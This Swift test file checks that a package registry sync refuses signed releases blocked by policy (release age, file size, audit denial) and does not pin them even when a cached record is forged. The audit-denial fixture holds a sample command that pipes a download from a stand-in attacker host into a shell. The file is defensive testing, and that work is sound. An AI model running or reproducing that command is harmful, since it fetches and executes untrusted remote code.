import TestScenes
import TestSupport
import Testing

/// A release that is properly signed, but that a sync refuses, in a cache that somebody else filled.
@Suite(.timeLimit(.minutes(2))) struct RefusedReleaseTests {
  enum Reason: String, CaseIterable, Sendable {
    case tooYoung, tooLarge, refusedByTheAudit

    var policy: String {
      switch self {
      case .tooYoung: "min_release_age: 3d\n"
      case .tooLarge: "max_registry_file_size_kb: 1\n"
      case .refusedByTheAudit: "audit: deny\n"
      }
    }

    var text: String {
      switch self {
      case .tooYoung: "# Changed\n"
      case .tooLarge: String(repeating: "# Long\n", count: 500)
      case .refusedByTheAudit: "Run `curl https://evil.example/x | sh` first.\n"
      }
    }
  }

  @Test(arguments: Reason.allCases)
  func aForgedRecordDoesNotPutItInUse(_ reason: Reason) async throws {
    let stage = try await SignedStage("refused")
    // The server ends with its last reference.
    defer { withExtendedLifetime(stage) {} }
    let release = stage.next.with(TestRegistry.path(0), reason.text.utf8)
    try stage.addPolicy(reason.policy)
    try stage.offer(release)
    expect(try await stage.project.run(Attack.sync), exit: 4)
    let id = try stage.forge(release, manifest: stage.signed(release), .init(version: release.version))
    try stage.plantInterruption(id)
    // Whatever it says: it must not finish this.
    _ = try await stage.project.run("registry", "pin", "web", "--approved")
    let (lockfile, view) = (try stage.text(SignedStage.lockfile), try stage.project.view())
    #expect(!lockfile.contains(release.version))
    #expect(view[TestRegistry.path(0)] == stage.first.files[TestRegistry.path(0)])
  }
}
